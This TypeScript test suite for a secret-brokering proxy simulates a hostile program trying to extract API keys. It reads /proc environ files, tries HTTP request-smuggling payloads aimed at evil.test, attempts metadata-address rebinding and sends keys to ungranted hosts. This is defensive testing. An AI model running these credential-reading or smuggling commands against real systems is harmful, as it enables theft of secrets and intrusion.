/** A program that has placeholders tries to get at the values, and others try to use its proxy. */
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { once } from 'node:events';
import { describe, expect, it } from 'vitest';
import { withCommandProcesses } from '@test/support/command-process';
import {
  brokeredScene,
  echo,
  hostOf,
  otherService,
  SECRET,
  secureService,
  type BrokeredScene,
} from '@test/support/brokered';
import { answeredBy, type Service } from '@test/support/requests';

withCommandProcesses();

const isWindows = process.platform === 'win32';
const hasNoProc = process.platform !== 'linux';
const isNotRoot = hasNoProc || process.getuid?.() !== 0;
const hasNoCurl = isWindows || spawnSync('curl', ['--version']).status !== 0;

const sh = (script: string): string[] => ['--', 'sh', '-c', script];

const OTHER_SECRET = 'xoxb-other/7777+77~y';

/** Everything in which a value could be: as it is, and as programs write it. */
const expectNothingOf = (value: string, text: string): void => {
  const forms = [
    value,
    JSON.stringify(value).slice(1, -1),
    encodeURIComponent(value),
    Buffer.from(value).toString('base64'),
    Buffer.from(value).toString('base64url'),
  ];
  for (const form of forms) expect(text.toLowerCase()).not.toContain(form.toLowerCase());
};

async function granted(
  answer: Parameters<typeof secureService>[0],
): Promise<BrokeredScene & { readonly server: Service }> {
  const scene = await brokeredScene();
  const server = await secureService(answer);
  await scene.grant({ name: 'service', hosts: [hostOf(server)] });
  return { ...scene, server };
}

/** Two variables with a grant each. */
async function twoGrants(first: Service, second: Service): Promise<BrokeredScene> {
  const scene = await brokeredScene({ API_KEY: SECRET, OTHER_KEY: OTHER_SECRET });
  await scene.grant({ name: 'first', hosts: [hostOf(first)] });
  await scene.grant({
    name: 'second',
    hosts: [hostOf(second)],
    secrets: { token: { environment: 'production', key: 'OTHER_KEY' } },
  });
  return scene;
}

/**
 * A program that says something in a tunnel for each text, with `API_KEY` in place of `@`. It prints what comes back,
 * as a list in JSON.
 */
const saying = (
  server: Pick<Service, 'url'>,
  texts: readonly string[],
  { name = '', tls = true }: { readonly name?: string; readonly tls?: boolean } = {},
): string[] => [
  '--',
  process.execPath,
  '--input-type=module',
  '-e',
  `
    import { request } from 'node:http';
    import { connect } from 'node:tls';
    import { readFileSync } from 'node:fs';
    const proxy = new URL(process.env.HTTPS_PROXY);
    const login = 'Basic ' + Buffer.from(proxy.username + ':' + proxy.password).toString('base64');
    const ca = readFileSync(process.env.SSL_CERT_FILE);
    const servername = ${JSON.stringify(name)};
    const other = servername === '' ? {} : { servername, checkServerIdentity: () => undefined };
    const say = (text) => new Promise((resolve) => {
      const tunnel = request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT',
        path: ${JSON.stringify(hostOf(server))}, headers: { 'Proxy-Authorization': login } });
      tunnel.on('connect', (_, socket) => {
        const inside = ${String(tls)} ? connect({ socket, ca, host: '127.0.0.1', ...other }) : socket;
        let said = '';
        inside.on('error', (error) => (said += 'failed ' + error.code));
        inside.on('data', (data) => (said += data));
        inside.on('close', () => resolve(said));
        inside.write(text.replaceAll('@', process.env.API_KEY), 'latin1');
      });
      tunnel.end();
    });
    console.log(JSON.stringify(await Promise.all(${JSON.stringify(texts)}.map(say))));`,
];

const head = (...lines: readonly string[]): string => `${lines.join('\r\n')}\r\n\r\n`;

describe.skipIf(hasNoCurl)('a program that has placeholders', () => {
  it.skipIf(hasNoProc)('finds no value in its environment, in processes and in files', async () => {
    const { run, server } = await granted(echo);
    const { code, out } = await run([
      '--no-redact',
      ...sh(
        `curl -sS -H "Authorization: Bearer $API_KEY" ${server.url}/; env; for pid in $$ $PPID; do cat /proc/$pid/environ /proc/$pid/cmdline; done; cat $(dirname "$SSL_CERT_FILE")/*`,
      ),
    ]);
    expect(code).toBe(0);
    expect(server.requests[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(out).toContain('NODE_USE_ENV_PROXY=1');
    expect(out).not.toContain('PRIVATE KEY');
    expectNothingOf(SECRET, out);
  });

  it('gets no value from a service that shows what it got', async () => {
    const { run, server } = await granted((request, response) => {
      const value = (request.headers.authorization ?? '').replace('Bearer ', '');
      const forms = [
        value,
        JSON.stringify(value),
        encodeURIComponent(value),
        Buffer.from(`me:${value}`).toString('base64'),
      ];
      if (request.url === '/redirect') {
        response.writeHead(302, { Location: `/?k=${encodeURIComponent(value)}` }).end();
      } else if (request.url === '/error') {
        response.writeHead(500, { 'X-Key': value }).end(`cannot use ${value}`);
      } else if (request.url === '/broken') {
        response.writeHead(200, { 'Content-Length': 1000 });
        response.write(value.slice(0, 12), () => response.destroy());
      } else response.end(forms.join('\n'));
    });
    const curl = `curl -sSi -H "Authorization: Bearer $API_KEY" ${server.url}`;
    const { out, err } = await run([
      '--no-redact',
      ...sh(`for path in / /redirect /error /broken; do ${curl}$path; done`),
    ]);
    expect(server.requests.map(({ headers }) => headers.authorization)).toEqual(
      Array.from({ length: 4 }, () => `Bearer ${SECRET}`),
    );
    expect(out).toContain('cannot use [token]');
    expect(out).toContain('Location: /?k=[token]');
    expectNothingOf(SECRET, out + err);
  });

  it('gets no value by storing it at a service and reading it later, with another grant or none', async () => {
    let stored = '';
    const server = await secureService((request, response) => {
      if (request.method === 'GET') response.end(`stored: ${stored}`);
      else {
        request.on('data', (chunk: Buffer) => (stored += chunk.toString()));
        request.on('end', () => response.end());
      }
    });
    const scene = await twoGrants(server, server);
    const { out } = await scene.run([
      '--no-redact',
      ...sh(
        `curl -sS --data "$API_KEY" ${server.url}/; curl -sS -H "X-Key: $OTHER_KEY" ${server.url}/; curl -sS ${server.url}/`,
      ),
    ]);
    expect(stored).toBe(encodeURIComponent(SECRET));
    expect(out).toBe('stored: [token]stored: [token]');
  });

  it('cannot send a value to the host of another grant, and the audit says so', async () => {
    const [first, second] = [await secureService(echo), await otherService(echo)];
    const scene = await twoGrants(first, second);
    const { out } = await scene.run(
      sh(
        `curl -sS -H "X-Key: $API_KEY" ${second.url}/a; curl -sS --data "$API_KEY" ${second.url}/b; curl -sS -u "me:$API_KEY" ${second.url}/c; curl -sS "${second.url}/d?k=$API_KEY"`,
      ),
    );
    expect(out.match(/"code":"HOST_NOT_GRANTED"/g)).toHaveLength(4);
    expect(second.requests).toEqual([]);
    const refused = (await scene.audit()).filter(({ decision }) => decision === 'refused');
    expect(refused.map(({ grant, rule, path }) => [grant?.name, rule, path])).toEqual(
      ['/a', '/b', '/c', '/d'].map((path) => ['first', 'host', path]),
    );
  });

  it('cannot use two grants in one request', async () => {
    const server = await secureService(echo);
    const scene = await twoGrants(server, server);
    const { out } = await scene.run(
      sh(`curl -sS -H "X-Key: $API_KEY" -H "Y-Key: $OTHER_KEY" ${server.url}/`),
    );
    expect(out).toContain('The request has placeholders of several grants: “first” and “second”.');
    expect(server.requests).toEqual([]);
    expect((await scene.audit()).at(-1)).toMatchObject({ decision: 'refused', rule: 'grant' });
  });

  it('leaves no value, no placeholder and no query in the audit', async () => {
    const { run, server, command } = await granted(echo);
    await run(sh(`curl -sS -H "X-Key: $API_KEY" "${server.url}/path?k=$API_KEY"`));
    const { out } = await command.run(['audit', '--json']);
    expect(out).toContain('/path');
    expectNothingOf(SECRET, out);
    expect(out).not.toContain('strongroom_API_KEY');
  });

  it('cannot reach a metadata service or another address by a name that changes', async () => {
    const scene = await brokeredScene();
    const server = await secureService(echo);
    const port = String(server.port);
    await scene.grant({
      name: 'service',
      hosts: [`service.test:${port}`],
      settings: { networks: ['127.0.0.1/32'] },
    });
    const turns = ['169.254.169.254', '127.0.0.2', '::ffff:169.254.169.254'];
    await scene.openApp({
      resolve: async () => {
        const address = turns.shift() ?? '127.0.0.1';
        return [{ address, family: address.includes(':') ? 6 : 4 }];
      },
    });
    const curl = `curl -sS -H "X-Key: $API_KEY" https://service.test:${port}/`;
    const { out } = await scene.run(sh(`${curl}; ${curl}; ${curl}`));
    expect(out.match(/"code":"ADDRESS_REFUSED"/g)).toHaveLength(3);
    expect(server.requests).toEqual([]);
  });
});

describe.skipIf(isWindows)('a program that speaks HTTP in its own way', () => {
  const post = (...lines: readonly string[]): string =>
    head('POST / HTTP/1.1', 'Host: HOST', 'X-Key: @', ...lines);
  const get = (line: string, ...lines: readonly string[]): string =>
    head(`GET ${line} HTTP/1.1`, 'X-Key: @', 'Connection: close', ...lines);

  it('gets no request through that a server could read in another way, or at another server', async () => {
    const cases: Readonly<Record<string, string>> = {
      'another host': get('/', 'Host: evil.test'),
      'no host': get('/'),
      'two hosts': get('/', 'Host: HOST', 'Host: evil.test'),
      'another address in its line': get('https://evil.test/', 'Host: HOST'),
      'a user in its line': get('me@evil.test/', 'Host: HOST'),
      'a length and chunks': `${post('Content-Length: 4', 'Transfer-Encoding: chunked')}0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n`,
      'two lengths': `${post('Content-Length: 4', 'Content-Length: 5')}abcd`,
      'an encoding that is no chunks': `${post('Transfer-Encoding: xchunked')}abcd`,
      'a chunk of no size': `${post('Transfer-Encoding: chunked')}z\r\nabcd\r\n0\r\n\r\n`,
      'a space in the name of a header': `${post('Content-Length : 1')}a`,
      'another method in a header': get('/', 'Host: HOST', 'X-HTTP-Method-Override: DELETE'),
      'the method TRACE': get('/', 'Host: HOST').replace('GET', 'TRACE'),
      'a tunnel in the tunnel': get('evil.test:443', 'Host: HOST').replace('GET', 'CONNECT'),
    };
    const { run, server } = await granted(echo);
    const texts = Object.values(cases).map((text) => text.replaceAll('HOST', hostOf(server)));
    const { out } = await run(saying(server, texts));
    const answers = JSON.parse(out) as string[];
    const passed = Object.keys(cases).filter(
      (_, index) => !/^(HTTP\/1\.1 4\d\d .*)?$/s.test(answers[index] ?? 'none'),
    );
    expect(passed).toEqual([]);
    expect(server.requests).toEqual([]);
    expectNothingOf(SECRET, out);
  });

  it('sends nothing with another name in its TLS than that of the tunnel', async () => {
    const { run, server } = await granted(echo);
    const text = head('GET / HTTP/1.1', `Host: ${hostOf(server)}`, 'X-Key: @');
    const { out } = await run(saying(server, [text], { name: 'evil.test' }));
    expect(out).toMatch(/^\["failed E/);
    expect(server.requests).toEqual([]);
  });

  it('sends nothing without TLS to a server that has TLS', async () => {
    const scene = await brokeredScene();
    await scene.grant({ name: 'service', hosts: ['example.test'] });
    const server = { url: 'https://example.test:443' };
    const text = head('GET / HTTP/1.1', 'Host: example.test:443', 'X-Key: @', 'Connection: close');
    const { out } = await scene.run(saying(server, [text], { tls: false }));
    expect(out).toContain('PLAIN_HTTP_REFUSED');
    expect((await scene.audit()).at(-1)).toMatchObject({ decision: 'refused', rule: 'scheme' });
  });
});

describe.skipIf(hasNoCurl)('the proxy', () => {
  it('serves nobody who does not know its password', async () => {
    const { start, server } = await granted(echo);
    const running = start(sh('echo "$HTTPS_PROXY"; echo started; read end'));
    await running.until('started');
    const proxy = new URL(running.printed().split('\n')[0] ?? '');
    const attempts = [
      `http://127.0.0.1:${proxy.port}`,
      `http://strongroom@127.0.0.1:${proxy.port}`,
      `http://strongroom:wrong@127.0.0.1:${proxy.port}`,
    ];
    for (const url of attempts) {
      for (const target of [server.url, server.url.replace('https', 'http')]) {
        const { stdout, stderr } = spawnSync('curl', [
          '-sSik',
          // The server is in this process, which waits for curl: it cannot answer.
          '--max-time',
          '10',
          '--noproxy',
          '',
          '--proxy',
          url,
          target,
        ]);
        expect(`${String(stdout)}${String(stderr)}`).toMatch(/\b407\b/);
      }
    }
    expect(proxy.hostname).toBe('127.0.0.1');
    expect(server.requests).toEqual([]);
    running.write('\n');
    await running.ended;
    const socket = connect(Number(proxy.port), '127.0.0.1');
    const [error] = (await once(socket, 'error')) as [NodeJS.ErrnoException];
    expect(error.code).toBe('ECONNREFUSED');
  });

  it.skipIf(isNotRoot)('does not show its password to another user', async () => {
    const { run } = await granted(answeredBy(''));
    const { out } = await run([
      '--no-redact',
      ...sh(
        `as='setpriv --reuid=65534 --regid=65534 --clear-groups'; $as true || exit 9; $as cat /proc/$$/environ; $as ls -l $(dirname "$SSL_CERT_FILE"); $as cat "$SSL_CERT_FILE"; exit 0`,
      ),
    ]);
    expect(out).toBe('');
  });

  it('is trusted by nobody else, and leaves nothing behind', async () => {
    const { run, server } = await granted(echo);
    const { out } = await run(
      sh(
        `d=$(dirname "$SSL_CERT_FILE"); echo $d; stat -c %a $d $d/*; cat "$NODE_EXTRA_CA_CERTS"; CURL_CA_BUNDLE= SSL_CERT_FILE= curl -sS --cacert "$SYSTEM" ${server.url}/ 2>&1`,
      ),
      { NODE_EXTRA_CA_CERTS: '', SYSTEM: '/etc/ssl/certs/ca-certificates.crt' },
    );
    const [folder = '', ...rest] = out.split('\n');
    expect(rest.slice(0, 3)).toEqual(['700', '600', '600']);
    expect(out.match(/BEGIN CERTIFICATE/g)).toHaveLength(1);
    expect(out).not.toContain('PRIVATE KEY');
    expect(out).toContain('certificate');
    expect(server.requests).toEqual([]);
    expect(() => statSync(folder)).toThrow('ENOENT');
  });

  it('leaves no private key behind if its command is killed', async () => {
    const { start, server } = await granted(echo);
    const running = start(
      sh(
        `curl -sS -o /dev/null -H "X: $API_KEY" ${server.url}/; dirname "$SSL_CERT_FILE"; echo "$HTTPS_PROXY"; echo ready; while true; do sleep 1; done`,
      ),
    );
    await running.until('ready');
    const [proxy = '', folder = ''] = running.printed().split('\n').toReversed().slice(2);
    await running.kill();
    const left = readdirSync(folder).map((name) => readFileSync(join(folder, name), 'latin1'));
    expect(left.length).toBeGreaterThan(0);
    for (const text of left) expect(text).not.toContain('PRIVATE KEY');
    expect(folder.startsWith(tmpdir())).toBe(true);
    const socket = connect(Number(new URL(proxy).port), '127.0.0.1');
    await expect(once(socket, 'connect')).rejects.toMatchObject({ code: 'ECONNREFUSED' });
  });
});
